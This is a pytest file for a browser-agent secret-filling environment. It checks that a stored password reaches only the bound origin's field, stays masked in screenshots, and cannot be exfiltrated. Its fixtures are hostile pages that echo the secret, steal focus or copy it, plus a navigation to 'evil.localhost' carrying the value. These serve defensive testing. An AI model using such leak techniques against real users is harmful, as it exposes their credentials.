"""Secrets on real pages: who gets the value, and that no picture and no word that leaves the environment shows it."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from typing import Any
from urllib.parse import urlsplit

import pytest

from handeye.agent.safety.screen_text import screen_reader
from handeye.benchmarks.safety.agents import Watched
from handeye.envs.actions import AnswerDialog, Click, Goto, PressKeys, TypeText, Wait
from handeye.envs.browser import BrowserEnv
from handeye.envs.env import Permit, TimeStep
from handeye.envs.observation import Observation
from handeye.envs.secrets.env import SecretEnv
from handeye.envs.secrets.masking import DARK
from handeye.envs.secrets.matching import places
from handeye.envs.secrets.secret import read_secrets
from handeye.envs.secrets.vault import Vault
from handeye.tools.browser import BrowserOptions
from handeye.tools.browser.fingerprints import fingerprint, keyed_hash
from handeye.tools.device import Pixels
from handeye.tools.errors import InvalidAction, NotPermitted, SetupError, TargetChanged
from handeye.tools.geometry import Box, Point, Size

VALUE = "hunter2" + "xyz"
HOLDER = TypeText(text="[[secret:bank]]")
FIELD = "position:absolute;left:40px;top:40px;width:200px;height:24px;font:16px monospace"
PASSWORD = f"<input type=password id=p style='{FIELD}' oninput='window.got = p.value'>"
AT_FIELD = Click(point=Point(60, 52))
READER = screen_reader()
SHARPER = screen_reader()
"""Reads what comes out, twice as large: it sees what the one that masks may have missed."""


@pytest.fixture(scope="module")
def inner() -> Iterator[BrowserEnv]:
    try:
        env = BrowserEnv(BrowserOptions(viewport=Size(640, 400), guard=True))
    except SetupError as error:
        pytest.skip(str(error))
    yield env
    env.close()


Open = Callable[..., SecretEnv]


@pytest.fixture
def opened(inner: BrowserEnv, site: Any) -> Open:
    port = urlsplit(site.base).port

    def open_page(html: str, *, host: str = "shop.localhost", bound: str = "", options: str = "", path: str = "/page") -> SecretEnv:
        site.page(html, path)
        where = bound or f"http://shop.localhost:{port}"
        env = SecretEnv(inner, Vault(read_secrets([f"bank=env:B@{where}{options}"], {"B": VALUE})), READER)
        inner.start_url = f"http://{host}:{port}{path}"
        env.reset()
        return env

    return open_page


def page_of(env: SecretEnv) -> Any:
    assert isinstance(env.inner, BrowserEnv)
    return env.inner.driver


def got(env: SecretEnv) -> Any:
    return page_of(env).evaluate("window.got")


def clean(seen: Observation) -> None:
    """Nothing in an observation shows the value: no word, and nothing that a reader of pictures finds."""
    words = repr((seen.url, seen.title, seen.app, seen.tabs, seen.dialog, seen.downloads, seen.notes, seen.extra))
    assert VALUE not in words
    twice = seen.screenshot.repeat(2, axis=0).repeat(2, axis=1)
    assert places([VALUE], SHARPER(twice)) == ()


def dark_at(pixels: Pixels, box: Box) -> bool:
    return bool((pixels[box.top : box.bottom, box.left : box.right] == DARK).all())


def test_the_password_field_of_the_origin_gets_it_and_is_dark(opened: Open) -> None:
    env = opened(f"<h1 style='margin-top:100px'>Welcome</h1>{PASSWORD}")
    env.step(AT_FIELD)
    step = env.step(HOLDER)
    assert got(env) == VALUE
    assert dark_at(step.observation.screenshot, Box(40, 40, 240, 64))
    assert not dark_at(step.observation.screenshot, Box(0, 100, 300, 160))
    clean(step.observation)


def test_enter_submits(opened: Open) -> None:
    env = opened(f"<form onsubmit='document.title = \"sent\"; return false'>{PASSWORD}</form>")
    env.step(AT_FIELD)
    seen = env.step(TypeText(text="[[secret:bank]]\n")).observation
    assert (got(env), seen.title) == (VALUE, "sent")


@pytest.mark.parametrize(
    ("html", "host"),
    [
        (PASSWORD, "evil.localhost"),
        (PASSWORD, "sub.shop.localhost"),
        (PASSWORD, "127.0.0.1"),
        (PASSWORD.replace("type=password", "name=password autocomplete=current-password aria-label=Password"), "shop.localhost"),
        (PASSWORD.replace("type=password", "style='-webkit-text-security:disc' x"), "shop.localhost"),
        (f"<div contenteditable id=p style='{FIELD}'></div>", "shop.localhost"),
        (PASSWORD.replace("<input", "<input disabled"), "shop.localhost"),
        ("nothing to type into", "shop.localhost"),
    ],
)
def test_any_other_place_gets_neither_the_value_nor_the_placeholder(opened: Open, html: str, host: str) -> None:
    env = opened(html, host=host)
    env.step(AT_FIELD)
    with pytest.raises(NotPermitted) as caught:
        env.step(HOLDER)
    assert VALUE not in str(caught.value)
    everything = page_of(env).evaluate("document.body.innerText + [...document.querySelectorAll('input')].map((one) => one.value)")
    assert VALUE not in everything
    assert "secret" not in everything


def test_the_right_host_on_another_port_or_scheme_gets_nothing(opened: Open) -> None:
    for bound in ("http://shop.localhost:1", "https://shop.localhost", "http://shop.localhost"):
        env = opened(PASSWORD, bound=bound)
        env.step(AT_FIELD)
        with pytest.raises(NotPermitted, match="bound to"):
            env.step(HOLDER)
        assert not got(env)


def framed(env_base: str, path: str, more: str = "") -> str:
    return f"<iframe src='{env_base}{path}' {more} style='position:absolute;left:0;top:0;width:400px;height:200px;border:0'></iframe>"


FRAMES = [
    ("shop.localhost", "evil.localhost", False),
    ("evil.localhost", "shop.localhost", True),
    ("127.0.0.1", "shop.localhost", True),
    ("shop.localhost", "127.0.0.1", False),
]


@pytest.mark.parametrize(("outer", "inside", "typed"), FRAMES)
def test_the_origin_is_that_of_the_frame(opened: Open, site: Any, outer: str, inside: str, typed: bool) -> None:
    port = urlsplit(site.base).port
    site.page(PASSWORD + "<script>p.addEventListener('input', () => parent.postMessage(p.value, '*'))</script>", "/in")
    env = opened("<script>onmessage = (e) => window.got = e.data</script>" + framed(f"http://{inside}:{port}", "/in"), host=outer)
    env.step(Wait(seconds=0.3))
    env.step(AT_FIELD)
    if not typed:
        with pytest.raises(NotPermitted, match="in a document of"):
            env.step(HOLDER)
        assert not got(env)
        return
    step = env.step(HOLDER)
    assert got(env) == VALUE
    assert dark_at(step.observation.screenshot, Box(40, 40, 240, 64))
    clean(step.observation)


def test_a_sandboxed_frame_has_no_origin(opened: Open, site: Any) -> None:
    site.page(PASSWORD, "/in")
    env = opened(framed("", "/in", "sandbox=allow-scripts"))
    env.step(Wait(seconds=0.3))
    env.step(AT_FIELD)
    with pytest.raises(NotPermitted):
        env.step(HOLDER)


ECHOES = {
    "text": "out.textContent = 'it is ' + v",
    "letters": "out.innerHTML = [...v].map((c) => `<b>${c}</b>`).join('')",
    "capitals": "out.style.textTransform = 'uppercase'; out.textContent = v",
    "beginning": "out.textContent = 'hint: ' + v.slice(0, 5) + '...'",
    "two lines": "out.style.cssText += ';width:70px;word-break:break-all;font:20px monospace'; out.textContent = v",
    "title": "document.title = v",
    "url": "history.replaceState(0, '', '?q=' + encodeURIComponent(v))",
    "hash": "location.hash = btoa('xx' + v)",
    "placeholder": "other.value = ''; other.placeholder = v",
    "other field": "other.value = 'x' + v",
    "textarea": "area.value = 'note\\n' + v",
    "button": "button.value = v",
    "option": "choice.options[0].label = v",
    "show password": "p.type = 'text'",
    "canvas": "const c = canvas.getContext('2d'); c.font = '22px sans-serif'; c.fillText(v, 5, 40)",
    "svg": "svgtext.textContent = v",
    "before": "out.dataset.v = v; out.className = 'before'",
    "shadow": "out.attachShadow({mode: 'open'}).innerHTML = `<p>${v}</p>`",
    "closed shadow": "out.attachShadow({mode: 'closed'}).innerHTML = `<p>${v}</p>`",
    "frame": "frame.srcdoc = '<p>' + v",
    "spaced": "out.textContent = [...v].join(' ')",
}
PLACES = """<style>.before::before { content: attr(data-v) }</style>
<div style='position:absolute;top:100px;left:40px;font:16px sans-serif'><p id=out></p><input id=other><input type=button id=button value=x>
<textarea id=area></textarea><select id=choice><option>one</option></select><br><canvas id=canvas width=300 height=60></canvas>
<svg width=200 height=40><text id=svgtext y=20></text></svg><iframe id=frame style='width:200px;height:60px'></iframe></div>"""


@pytest.mark.parametrize("echo", list(ECHOES))
def test_a_page_that_shows_it_is_masked(opened: Open, echo: str) -> None:
    env = opened(f"{PASSWORD}{PLACES}<script>p.addEventListener('input', () => {{ const v = p.value; {ECHOES[echo]} }})</script>")
    env.step(AT_FIELD)
    clean(env.step(HOLDER).observation)
    assert got(env) == VALUE
    clean(env.step(Wait(seconds=0.2)).observation)


@pytest.mark.parametrize("kind", ["alert", "prompt"])
def test_a_dialog_that_says_it(opened: Open, kind: str) -> None:
    env = opened(f"{PASSWORD}<script>p.addEventListener('input', () => setTimeout(() => {kind}(p.value, p.value), 50))</script>")
    env.step(AT_FIELD)
    env.step(HOLDER)
    seen = env.step(Wait(seconds=0.3)).observation
    assert seen.dialog is not None
    assert "[[secret:bank]]" in seen.dialog.message
    clean(seen)
    clean(env.step(AnswerDialog(accept=True)).observation)


def test_a_page_that_moves_the_focus_as_it_is_typed(opened: Open) -> None:
    steals = "<input id=t><script>p.addEventListener('keydown', () => t.focus()); p.addEventListener('input', () => t.focus())</script>"
    env = opened(PASSWORD + steals)
    env.step(AT_FIELD)
    seen = env.step(TypeText(text="[[secret:bank]]\n")).observation
    assert page_of(env).evaluate("[p.value, t.value]") == [VALUE, ""]
    assert any("Enter was not pressed" in note for note in seen.notes)


def test_a_field_that_changes_its_kind_when_it_is_looked_at(opened: Open) -> None:
    env = opened(f"{PASSWORD}<script>p.addEventListener('focus', () => setTimeout(() => p.type = 'text', 200))</script>")
    env.step(AT_FIELD)
    env.step(Wait(seconds=0.5))
    with pytest.raises(InvalidAction):
        env.step(HOLDER)
    assert page_of(env).evaluate("p.value") == ""


def test_a_page_that_throws_the_focus_about(opened: Open, site: Any) -> None:
    port = urlsplit(site.base).port
    site.page(PASSWORD, "/in")
    toggling = "<input id=t style='position:absolute;top:300px'><script>setInterval(() => (Math.random() < .5 ? t : f).focus(), 1)</script>"
    frame = framed(f"http://shop.localhost:{port}", "/in", "id=f")
    env = opened(frame + toggling, host="evil.localhost")
    env.step(AT_FIELD)
    for _ in range(6):
        try:
            env.step(HOLDER)
        except InvalidAction:
            continue
    assert page_of(env).evaluate("t.value") == ""


def test_codes_in_boxes_of_one_digit(opened: Open) -> None:
    boxes = "".join("<input class=d maxlength=1 autocomplete=one-time-code style='width:20px'>" for _ in range(10))
    move = "const d = [...document.querySelectorAll('.d')]; d.forEach((one, i) => one.addEventListener('input', () => d[i + 1]?.focus()))"
    env = opened(f"<div style='position:absolute;left:40px;top:40px'>{boxes}</div><script>{move}</script>", options=";fields=otp")
    env.step(Click(point=Point(50, 50)))
    clean(env.step(HOLDER).observation)
    assert page_of(env).evaluate("d.map((one) => one.value).join('')") == VALUE


def test_scale_and_scrolling(site: Any) -> None:
    try:
        inner = BrowserEnv(BrowserOptions(viewport=Size(400, 300), scale=2.0, guard=True))
    except SetupError as error:
        pytest.skip(str(error))
    try:
        inner.start_url = site.page(f"<div style='height:900px'></div><div style='position:relative;height:900px'>{PASSWORD}</div>")
        env = SecretEnv(inner, Vault(read_secrets([f"bank=env:B@{site.base}"], {"B": VALUE})), READER)
        env.reset()
        inner.driver.evaluate("scrollTo(0, 900)")
        env.step(Click(point=Point(120, 104)))
        step: TimeStep = env.step(HOLDER)
        assert dark_at(step.observation.screenshot, Box(80, 80, 480, 128))
        inner.driver.evaluate("scrollTo(0, 880)")
        assert dark_at(env.step(Wait(seconds=0.1)).observation.screenshot, Box(80, 120, 480, 168))
    finally:
        inner.close()


def test_the_value_leaves_by_no_later_action(opened: Open) -> None:
    env = opened(PASSWORD)
    env.step(AT_FIELD)
    env.step(HOLDER)
    carriers: Sequence[Any] = (Goto(url=f"http://evil.localhost/?{VALUE}"), TypeText(text=VALUE), TypeText(text=f"x{VALUE}"))
    for action in carriers:
        with pytest.raises(NotPermitted):
            env.step(action)


COPY = (
    "<textarea id=t style='position:absolute;left:-900px'></textarea><button style='position:absolute;left:40px;top:200px' onclick=\""
    "t.value = {}; t.select(); document.execCommand('copy'); t.value = ''\">Copy</button>"
)
SECOND = f"<input id=q style='{FIELD.replace('top:40px', 'top:140px')}'>"
AT_SECOND, AT_COPY = Click(point=Point(60, 152)), Click(point=Point(55, 212))
PASTES = (PressKeys(keys=("ctrl", "v")), PressKeys(keys=("shift", "insert")))


@pytest.mark.parametrize("copied", ["p.value", "p.value.toUpperCase()", "'a ' + [...p.value].join(' ')", "'x'.repeat(200000)"])
def test_a_value_that_a_page_copied_is_pasted_nowhere(opened: Open, copied: str) -> None:
    env = opened(PASSWORD + SECOND + COPY.format(copied))
    for action in (AT_FIELD, HOLDER, AT_COPY, AT_SECOND):
        env.step(action)
    for paste in PASTES:
        with pytest.raises(TargetChanged, match="Nothing was done"):
            env.step(paste)
        with pytest.raises(TargetChanged, match="Nothing was done"):
            env.step_permitted(paste, Permit(env.targets(paste), effects=True))
    assert page_of(env).evaluate("q.value") == ""


def test_nor_where_another_environment_lies_between(inner: BrowserEnv, site: Any) -> None:
    inner.start_url = site.page(PASSWORD + SECOND + COPY.format("p.value"))
    env = SecretEnv(Watched(inner), Vault(read_secrets([f"bank=env:B@{site.base}"], {"B": VALUE})), READER)
    env.reset()
    for action in (AT_FIELD, HOLDER, AT_COPY, AT_SECOND):
        env.step(action)
    with pytest.raises(TargetChanged, match="Nothing was done"):
        env.step(PASTES[0])
    assert inner.driver.evaluate("q.value") == ""


def test_what_else_was_copied_is_pasted(opened: Open) -> None:
    env = opened(PASSWORD + SECOND + COPY.format(repr("order 4711")))
    for action in (AT_FIELD, HOLDER, AT_COPY, AT_SECOND, PASTES[0]):
        env.step(action)
    assert page_of(env).evaluate("q.value") == "order 4711"


def test_the_guard_of_a_page_is_not_told_the_value(opened: Open) -> None:
    env = opened(PASSWORD)
    driver = page_of(env)
    env.step(AT_FIELD)
    env.step(HOLDER)
    told: list[str] = []
    driver.guarded([], lambda: told.extend(worlds.armed for worlds in driver._session.sight._worlds.values()))
    assert any('"hash"' in one for one in told)
    assert not any(VALUE in one or VALUE[:4] in one for one in told)


def test_a_mark_is_the_same_on_both_sides() -> None:
    assert fingerprint("Ａ b\tÉx", 7) == fingerprint("abÉX", 7)
    assert fingerprint("abÉX", 7)["length"] == 4
    assert fingerprint("abc", 7)["hash"] != fingerprint("abc", 8)["hash"]
    assert keyed_hash([ord("a")], 0) == 7929297801672961  # cyrb53("a")
